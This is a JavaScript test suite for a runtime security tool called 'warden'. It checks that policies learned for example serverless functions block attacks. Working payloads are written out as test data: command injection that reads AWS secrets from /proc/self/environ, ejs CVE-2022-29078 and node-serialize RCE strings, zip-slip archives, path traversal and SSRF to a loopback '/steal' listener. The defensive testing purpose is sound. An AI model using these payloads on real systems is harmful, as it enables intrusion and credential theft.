// Learn, then enforce, through the public CLI (`warden learn`, `warden invoke --policy`) on the
// example functions, three of them built on real npm packages at vulnerable versions: a
// templating engine (ejs 3.1.6), an archive extractor (adm-zip 0.4.7), an AWS SDK client
// (@aws-sdk/client-dynamodb, pointed at a loopback DynamoDB) with node-serialize 0.0.4.
// Each function learns from a few events, then runs a dozen benign variations it never saw
// (all must pass with no finding) and attacks through its bugs (all must be blocked, each with
// a deviation finding that says what the baseline was).
import assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { ROOT, tempDir } from '../helpers.mjs';
import { validateDetectionFinding } from '../ocsf.mjs';
import { invoke } from '../sandbox-helpers.mjs';
import { fakeDynamoDb, recorder } from './fake-services.mjs';
import { assertBenignPass, learnCli, writeEvents, zeroConfig } from './learn-helpers.mjs';
import { zipBase64 } from './zip.mjs';

/** The demo's function ships in examples/; the vulnerable ones the tests attack are fixtures. */
const exampleDir = (fn) =>
  fn === 'doc-convert' ? join(ROOT, 'examples', fn) : join(ROOT, 'test', 'fixtures', 'examples', fn);
const serialize = (await import('node-serialize')).default;

/** `warden learn` with events given as objects; returns {code, stderr, policy (text), file}. */
async function learn(fn, events, { dir, out = 'learned.yaml', args = [] }) {
  const file = join(dir, out);
  const r = await learnCli([
    exampleDir(fn),
    '--handler',
    'index.handler',
    ...writeEvents(dir, `learn-${out}`, events),
    '--out',
    file,
    ...args,
  ]);
  return { ...r, file, policy: readFileSync(file, 'utf8') };
}

/** Benign variations of an example pass clean. */
const assertBenign = (fn, policyFile, events, args = []) =>
  assertBenignPass(exampleDir(fn), policyFile, events, args);

/**
 * Each attack is blocked with a deviation or detection finding of its own invocation. `check(dir)` proves
 * the attack had no effect (no marker file, nothing reached a listener).
 */
async function assertAttacksBlocked(fn, policyFile, attacks, args = []) {
  const r = await invoke(
    exampleDir(fn),
    'index.handler',
    attacks.map((a) => a.event),
    { args: ['--policy', policyFile, '--env', 'DIR=$DIR', ...args] },
  );
  try {
    assert.equal(r.results.length, attacks.length, r.stderr);
    attacks.forEach((a, i) => {
      const res = r.results[i];
      const mine = r.findings.filter((f) => f.metadata.correlation_uid === res.requestId);
      // Blocked as a deviation from the baseline, or earlier by an injection detector (which
      // blocks even what the learned policy allows: the template engine's own compile).
      const uid = (f) => f.finding_info.analytic.uid;
      const deviations = mine.filter(
        (f) => uid(f).startsWith('warden.deviation.') && f.disposition === 'Blocked',
      );
      const detections = mine.filter(
        (f) => uid(f).startsWith('warden.detect.') && f.disposition === 'Blocked',
      );
      assert.ok(
        deviations.length + detections.length > 0,
        `${fn} attack "${a.name}" was not blocked with a deviation or detection finding: ${JSON.stringify(res).slice(0, 300)} findings: ${mine.map(uid).join(', ')}`,
      );
      for (const f of deviations) {
        assert.deepEqual(validateDetectionFinding(f), [], `${a.name}: OCSF`);
        const analysis = f.anomaly_analyses?.[0];
        assert.ok(analysis?.baselines?.[0]?.observed_pattern, `${a.name}: the baseline is named`);
        assert.ok(analysis?.anomalies?.[0]?.observed_pattern, `${a.name}: what differed is named`);
        if (a.misuseBy && uid(f) === 'warden.deviation.library-misuse')
          assert.match(f.finding_info.title, new RegExp(`Library misuse: ${a.misuseBy}`));
      }
      for (const f of detections) {
        assert.deepEqual(validateDetectionFinding(f), [], `${a.name}: OCSF`);
        assert.ok(f.unmapped.input?.source, `${a.name}: the input that did it is named`);
      }
      if (a.misuseBy && detections.length === 0)
        assert.ok(
          deviations.some(
            (f) => uid(f) === 'warden.deviation.library-misuse' && f.unmapped.package === a.misuseBy,
          ),
          `${a.name}: library misuse by ${a.misuseBy}`,
        );
      a.check?.(r.dir);
    });
  } finally {
    r.cleanup();
  }
  return attacks.length;
}

const summary = [];
/** The same corpus with no policy file (zero-config, monitor mode): see `zeroConfig`. */
const zero = [];
after(() => {
  // The numbers the closing note reports (see `npm test` output).
  for (const z of zero)
    process.stdout.write(
      `# zero-config ${z.fn}: ${z.detected}/${z.attacks} attacks detected (${z.named} by a named rule or detector)${z.missed.length ? `, missed: ${z.missed.join('; ')}` : ''}; ${z.benignFired}/${z.benign} benign events had a finding${z.benignRules.length ? ` (${z.benignRules.join(', ')})` : ''}\n`,
    );
  for (const s of summary)
    process.stdout.write(
      `# learn ${s.fn}: ${s.entries} policy entries, ${s.benign} unseen benign variations passed (0 false positives), ${s.attacks} attacks blocked\n`,
    );
});

function entriesOf(stderr) {
  return Number(/(\d+) entries from/.exec(stderr)?.[1] ?? -1);
}

// ---------------------------------------------------------------------------------------------

test('learn → enforce: doc-convert (a shell command built from the request, files read by name)', async () => {
  const { dir, cleanup } = tempDir('warden-learn-');
  try {
    const post = (name) => ({ httpMethod: 'POST', path: '/convert', body: JSON.stringify({ name }) });
    const get = (doc) => ({ httpMethod: 'GET', path: `/docs/${doc}`, headers: {} });
    const learned = await learn(
      'doc-convert',
      [post('quarterly'), post('annual'), post('budget-2026'), get('quarterly.md'), get('annual.md')],
      { dir },
    );
    // Re-learning the same events gives the same file, byte for byte.
    const again = await learn(
      'doc-convert',
      [post('quarterly'), post('annual'), post('budget-2026'), get('quarterly.md'), get('annual.md')],
      { dir, out: 'again.yaml' },
    );
    assert.equal(again.policy, learned.policy, 'deterministic');
    assert.match(learned.policy, /^mode: enforce$/m);
    assert.match(learned.policy, /path: \$\{LAMBDA_TASK_ROOT\}\/docs\/\*\.md/);
    const benign = [
      ...['monthly', 'report-2027', 'x1', 'Q4_plan', 'sales.eu', 'a', 'ÉTÉ', '2026-11-26', 'roadmap_v2'].map(
        post,
      ),
      ...['budget.md', 'handbook.md', 'roadmap.md', 'onboarding.md', 'release-notes.md'].map(get),
    ];
    const passed = await assertBenign('doc-convert', learned.file, benign);
    const noFile = (name) => (d) => assert.ok(!existsSync(join(d, name)), `${name} was created`);
    const attacks = [
      { name: 'command injection', event: post('x; cat /proc/self/environ | grep AWS_SECRET #') },
      {
        name: 'command substitution',
        event: post('$(touch $DIR/pwned-subst)'),
        check: noFile('pwned-subst'),
      },
      { name: 'backticks', event: post('`touch $DIR/pwned-tick`'), check: noFile('pwned-tick') },
      { name: 'and-list', event: post('x && touch $DIR/pwned-and'), check: noFile('pwned-and') },
      {
        name: 'path traversal to the environment',
        event: get('..%2F..%2F..%2F..%2F..%2F..%2F..%2Fproc%2Fself%2Fenviron'),
      },
      { name: "path traversal to the function's code", event: get('..%2Findex.js') },
    ];
    const blocked = await assertAttacksBlocked('doc-convert', learned.file, attacks);
    zero.push({ fn: 'doc-convert', ...(await zeroConfig(exampleDir('doc-convert'), benign, attacks)) });
    summary.push({ fn: 'doc-convert', entries: entriesOf(learned.stderr), benign: passed, attacks: blocked });
  } finally {
    cleanup();
  }
});

test('learn → enforce: invoice-render on ejs 3.1.6 (CVE-2022-29078 through renderFile data)', async () => {
  const { dir, cleanup } = tempDir('warden-learn-');
  try {
    const render = (template, data) => ({
      httpMethod: 'POST',
      path: '/render',
      body: JSON.stringify({ template, data }),
    });
    const learned = await learn(
      'invoice-render',
      [
        render('invoice', {
          number: 'INV-1001',
          company: 'Acme',
          currency: 'EUR',
          items: [{ name: 'Widget', qty: 2, price: 9.5 }],
        }),
        render('receipt', { customer: 'Ada', amount: '12.00', date: '2026-11-02', method: 'card' }),
        render('statement', {
          period: '2026-10',
          lines: [{ date: '2026-10-01', text: 'Fee', amount: '3.00' }],
        }),
        render('invoice', { number: 'INV-77', company: 'Globex', items: [] }),
      ],
      { dir },
    );
    const names = ['Grace Hopper', 'Linus', 'Zoë', "O'Brien & Sons", '<b>bold</b>', '李雷'];
    const benign = [];
    for (let i = 0; i < 12; i++) {
      const who = names[i % names.length];
      if (i % 3 === 0)
        benign.push(
          render('invoice', {
            number: `INV-${2000 + i * 7}`,
            company: who,
            currency: ['USD', 'JPY', 'CHF'][i % 3],
            items: Array.from({ length: i % 5 }, (_, k) => ({
              name: `item ${k}`,
              qty: k + 1,
              price: 1.5 * (k + i),
            })),
          }),
        );
      else if (i % 3 === 1)
        benign.push(
          render('receipt', {
            customer: who,
            amount: (i * 3.3).toFixed(2),
            date: `2027-0${1 + (i % 9)}-1${i % 10}`,
            company: 'Hooli',
          }),
        );
      else
        benign.push(
          render('statement', {
            period: `2027-Q${1 + (i % 4)}`,
            company: who,
            lines: Array.from({ length: i }, (_, k) => ({
              date: `d${k}`,
              text: `line ${k}`,
              amount: String(k),
            })),
          }),
        );
    }
    const passed = await assertBenign('invoice-render', learned.file, benign);
    const listener = await recorder();
    try {
      const rce = (code) =>
        render('invoice', {
          number: '1',
          items: [],
          settings: { 'view options': { outputFunctionName: `x;${code};s` } },
        });
      const attacks = [
        {
          name: 'RCE: spawn a shell',
          event: rce(`process.getBuiltinModule('child_process').execSync('touch $DIR/pwned-ejs')`),
          misuseBy: 'ejs',
          check: (d) => assert.ok(!existsSync(join(d, 'pwned-ejs'))),
        },
        {
          name: 'RCE: write a file',
          event: rce(`process.getBuiltinModule('fs').writeFileSync('$DIR/dropped-ejs', 'x')`),
          misuseBy: 'ejs',
          check: (d) => assert.ok(!existsSync(join(d, 'dropped-ejs'))),
        },
        {
          name: 'RCE: call out',
          event: rce(
            `process.getBuiltinModule('net').connect(${listener.port}, '127.0.0.1').on('error', () => {}).end('x')`,
          ),
          misuseBy: 'ejs',
        },
        { name: "path traversal to the function's code", event: render('../index.js', {}) },
      ];
      const blocked = await assertAttacksBlocked('invoice-render', learned.file, attacks);
      assert.equal(listener.hits.length, 0, 'nothing reached the listener');
      zero.push({
        fn: 'invoice-render',
        ...(await zeroConfig(exampleDir('invoice-render'), benign, attacks)),
      });
      summary.push({
        fn: 'invoice-render',
        entries: entriesOf(learned.stderr),
        benign: passed,
        attacks: blocked,
      });
    } finally {
      listener.close();
    }
  } finally {
    cleanup();
  }
});

test('learn → enforce: zip-import on adm-zip 0.4.7 (zip slip, CVE-2018-1002204)', async () => {
  const { dir, cleanup } = tempDir('warden-learn-');
  try {
    const upload = async (name, files) => ({ body: JSON.stringify({ name, zip: await zipBase64(files) }) });
    const learned = await learn(
      'zip-import',
      [
        await upload('batch-1.zip', {
          'orders.csv': 'id,total\n1,2\n3,4\n',
          '2026/11/refunds.csv': 'id\n9\n',
        }),
        await upload('batch-2.zip', {
          'customers.csv': 'id\n1\n',
          'eu/de/orders.csv': 'id\n5\n',
          'notes.txt': 'hello',
        }),
        await upload('batch-3.zip', { 'a/b/c/deep.csv': 'x\n1\n2\n3\n', 'top.csv': 'x\n' }),
      ],
      { dir },
    );
    assert.match(learned.policy, /path: \/tmp\/import-\*\/\*\*/, 'the per-request directory is a tree');
    const benign = [];
    for (let i = 0; i < 12; i++) {
      const files = {};
      for (let k = 0; k <= i % 4; k++) {
        const depth = (i + k) % 4;
        const dirs = Array.from({ length: depth }, (_, d) => `d${d}-${i}`).join('/');
        files[`${dirs ? `${dirs}/` : ''}file-${i}-${k}.${k % 3 === 2 ? 'txt' : 'csv'}`] =
          `h\n${'r\n'.repeat(k + 1)}`;
      }
      benign.push(await upload(`upload-${i}.zip`, files));
    }
    const passed = await assertBenign('zip-import', learned.file, benign);
    const slip = (rel) => `../../${dir.slice(1)}/${rel}`;
    const attacks = [
      {
        name: 'zip slip into another directory',
        event: await upload('evil.zip', {
          'ok.csv': 'a\n1\n',
          [slip('slipped.sh')]: '#!/bin/sh\necho pwned\n',
        }),
        check: () => assert.ok(!existsSync(join(dir, 'slipped.sh'))),
      },
      {
        name: "zip slip over the function's code",
        event: await upload('evil2.zip', { '../../var/task/index.js': 'exports.handler = async () => 1' }),
      },
      {
        name: 'zip slip into /tmp beside the import directory',
        event: await upload('evil3.zip', { '../cron.sh': 'echo pwned' }),
      },
    ];
    const blocked = await assertAttacksBlocked('zip-import', learned.file, attacks);
    // Monitor mode lets the slips happen: never the one aimed at /var/task (it would write the
    // machine's own /var/task/index.js); the one beside the import directory is removed after.
    const harmless = attacks.filter((a) => !a.name.includes("function's code"));
    try {
      zero.push({ fn: 'zip-import', ...(await zeroConfig(exampleDir('zip-import'), benign, harmless)) });
    } finally {
      // Only the attack's own file (the test wrote exactly this).
      if (existsSync('/tmp/cron.sh') && readFileSync('/tmp/cron.sh', 'utf8') === 'echo pwned')
        rmSync('/tmp/cron.sh');
    }
    summary.push({ fn: 'zip-import', entries: entriesOf(learned.stderr), benign: passed, attacks: blocked });
  } finally {
    cleanup();
  }
});

let ddb;
let webhook;
before(async () => {
  ddb = await fakeDynamoDb();
  webhook = await recorder();
});
after(() => {
  ddb?.close();
  webhook?.close();
});

test('learn → enforce: orders-api on the AWS SDK (DynamoDB at a loopback endpoint) and node-serialize 0.0.4', async () => {
  const { dir, cleanup } = tempDir('warden-learn-');
  const evil = await recorder();
  try {
    const env = ['--env', `DYNAMODB_ENDPOINT=${ddb.url}`];
    const cookie = (o) => `session=${Buffer.from(serialize.serialize(o)).toString('base64')}`;
    const hook = `http://127.0.0.1:${webhook.port}/hooks/orders`;
    const put = (id, total, name, notify) => ({
      httpMethod: 'POST',
      headers: name ? { cookie: cookie({ name }) } : {},
      body: JSON.stringify({ id, total, ...(notify ? { notify } : {}) }),
    });
    const get = (id, name) => ({
      httpMethod: 'GET',
      headers: name ? { cookie: cookie({ name }) } : {},
      pathParameters: { id },
    });
    const learned = await learn(
      'orders-api',
      [put('o-1', 10, 'ada', hook), get('o-1', 'ada'), put('o-2', 99.5, 'bob'), get('missing')],
      { dir, args: env },
    );
    assert.match(learned.policy, /"?@aws-sdk\/credential-provider-env"?: \[secrets\]/);
    const benign = [];
    for (let i = 0; i < 12; i++) {
      const id = `order-${i * 31}`;
      if (i % 3 === 0)
        benign.push(put(id, i * 2.5, ['carol', 'dave', 'Émile'][i % 3], i % 2 ? hook : undefined));
      else if (i % 3 === 1) benign.push(get(`order-${(i - 1) * 31}`, 'carol'));
      else benign.push(get(`unknown-${i}`));
    }
    const passed = await assertBenign('orders-api', learned.file, benign, env);
    const rce = (code) => ({
      httpMethod: 'GET',
      headers: {
        cookie: `session=${Buffer.from(`{"name":"_$$ND_FUNC$$_function(){${code}}()"}`).toString('base64')}`,
      },
      pathParameters: { id: 'o-1' },
    });
    const attacks = [
      {
        name: 'deserialization RCE: spawn',
        event: rce(`require('child_process').execSync('touch $DIR/pwned-ns')`),
        misuseBy: 'node-serialize',
        check: (d) => assert.ok(!existsSync(join(d, 'pwned-ns'))),
      },
      {
        name: 'SSRF: the order posted to another service',
        event: put('o-3', 5, 'eve', `http://127.0.0.1:${evil.port}/steal`),
      },
      {
        name: 'SSRF: another loopback address',
        event: put('o-4', 5, 'eve', `http://127.0.0.2:${webhook.port}/hooks/orders`),
      },
    ];
    const blocked = await assertAttacksBlocked('orders-api', learned.file, attacks, env);
    assert.equal(evil.hits.length, 0, 'nothing reached the attacker');
    // Monitor mode lets the SSRF through to the test's own loopback listener.
    zero.push({
      fn: 'orders-api',
      ...(await zeroConfig(exampleDir('orders-api'), benign, attacks, env)),
    });
    summary.push({ fn: 'orders-api', entries: entriesOf(learned.stderr), benign: passed, attacks: blocked });
  } finally {
    evil.close();
    cleanup();
  }
});
